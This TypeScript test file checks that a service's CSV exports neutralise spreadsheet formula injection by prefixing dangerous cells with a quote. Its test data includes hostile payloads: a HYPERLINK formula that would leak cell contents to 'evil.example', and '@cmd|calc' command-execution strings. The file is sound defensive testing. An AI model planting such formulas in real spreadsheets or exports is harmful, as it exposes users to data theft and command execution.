import { parse } from 'csv-parse/sync';
import { neutraliseFormula } from '../../../src/transports/reports/report-writers';
import { TestApi } from '../../support/api';
import { startTestService, type TestService } from '../../support/test-service';

/**
 * OWASP's rule for CSV injection on every CSV the service writes: a text cell that a spreadsheet
 * would run as a formula is shown as text; amounts stay numbers a spreadsheet can sum.
 */

describe('the rule', () => {
  it.each(['=HYPERLINK("http://evil","click")', '+SUM(1+1)', '-2+3', '@cmd|calc', '\tTAB', '\rCR', '=1'])(
    'neutralises %j',
    (cell) => {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each(['-150.00', '250.00', '0', '-1', 'deposit', 'a=b', 'ref-1', ''])('keeps %j as it is', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });
});

describe('in the CSVs the admin API serves', () => {
  let target: TestService;
  let api: TestApi;
  let login: number;
  const comment = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
  const referenceId = '@SUM(1+1)*cmd|calc';

  beforeAll(async () => {
    target = await startTestService();
    api = new TestApi(target);
    login = await api.createAccount();
    const response = await api.admin('POST', '/admin/balance', {
      accountId: login,
      operation: 'add',
      amount: '100.00',
      comment,
      referenceId,
    });
    expect(response.status).toBe(200);
    await api.balanceOperation(login, 'sub', '40.00', 'wd-1');
  });
  afterAll(() => target.stop());

  async function csv(path: string): Promise<Array<Record<string, string>>> {
    const response = await fetch(`${target.baseUrl}${path}`, {
      headers: { Authorization: `Bearer ${target.config.adminApiKey}` },
    });
    expect(response.status).toBe(200);
    return parse(await response.text(), { columns: true }) as Array<Record<string, string>>;
  }

  it('statement: the comment and reference are text, the amounts numbers', async () => {
    const lines = await csv(`/admin/accounts/${login}/statement?format=csv`);
    const deposit = lines.find((line) => line.operation === 'add')!;
    expect(deposit.comment).toBe(`'${comment}`);
    expect(deposit.reference_id).toBe(`'${referenceId}`);
    const withdrawal = lines.find((line) => line.operation === 'sub')!;
    expect(withdrawal.balance_change).toBe('-40.00');
    expect(lines.at(-1)).toMatchObject({ line: 'closing', balance: '60.00' });
  });

  it('ledger export: the same', async () => {
    const postings = await csv('/admin/ledger/export');
    const deposit = postings.filter((posting) => posting.login === String(login) && posting.operation === 'add');
    expect(deposit.map((posting) => [posting.book, posting.amount, posting.comment]).sort()).toEqual([
      ['balance', '100.00', `'${comment}`],
      ['cash', '-100.00', `'${comment}`],
    ]);
  });
});
